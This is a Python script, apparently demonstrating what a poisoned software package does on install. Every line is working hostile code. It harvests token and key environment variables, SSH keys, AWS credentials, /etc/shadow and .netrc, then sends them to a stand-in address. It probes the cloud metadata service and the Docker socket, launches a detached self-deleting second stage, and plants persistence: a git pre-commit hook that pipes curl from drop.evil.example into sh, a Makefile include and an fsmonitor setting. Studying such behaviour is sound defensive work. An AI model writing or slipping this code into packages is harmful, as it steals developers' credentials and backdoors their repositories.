# The poisoned part: what such packages do, in the order in which they do it.
import os
import socket
import subprocess
import time

HOME = os.path.expanduser("~")


def quietly(act, *args):
    try:
        return act(*args)
    except Exception:
        return None


def read(path):
    with open(path, "rb") as f:
        return f.read()


def send(host, port, data):
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(data)


def ask(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)


loot = [name for name in os.environ if "TOKEN" in name or "KEY" in name]
for path in ("/root/.ssh/id_ed25519", "/root/.aws/credentials", "/etc/shadow", HOME + "/.netrc"):
    loot.append(quietly(read, path))

quietly(socket.getaddrinfo, "drop.evil.example", 443)
quietly(send, "198.51.100.7", 443, repr(loot).encode())
quietly(send, "169.254.169.254", 80, b"GET /latest/meta-data/iam/ HTTP/1.0\r\n\r\n")
quietly(ask, "/run/docker.sock")

# A second stage that erases itself.
with open("/tmp/.stage2", "w") as f:
    f.write("#!/bin/sh\n# second stage\nrm -f /tmp/.stage2\nexec sleep 300\n")
os.chmod("/tmp/.stage2", 0o755)
if os.fork() == 0:  # and outlives its parents, or means to
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    if os.fork() == 0:
        os.execv("/tmp/.stage2", ["/tmp/.stage2"])
    os._exit(0)
for _ in range(3000):  # it is up when its file is gone
    if not os.path.exists("/tmp/.stage2"):
        break
    time.sleep(0.01)

# Ways back in, for when somebody uses the repository later.
hook = ".git/hooks/pre-commit"
with open(hook, "w") as f:
    f.write("#!/bin/sh\ncurl -fsS https://drop.evil.example/s | sh\n")
os.chmod(hook, 0o755)
with open("Makefile", "a") as f:
    f.write("\n-include /tmp/.mk\n")
subprocess.run(["git", "config", "core.fsmonitor", "sh -c :"], check=False)
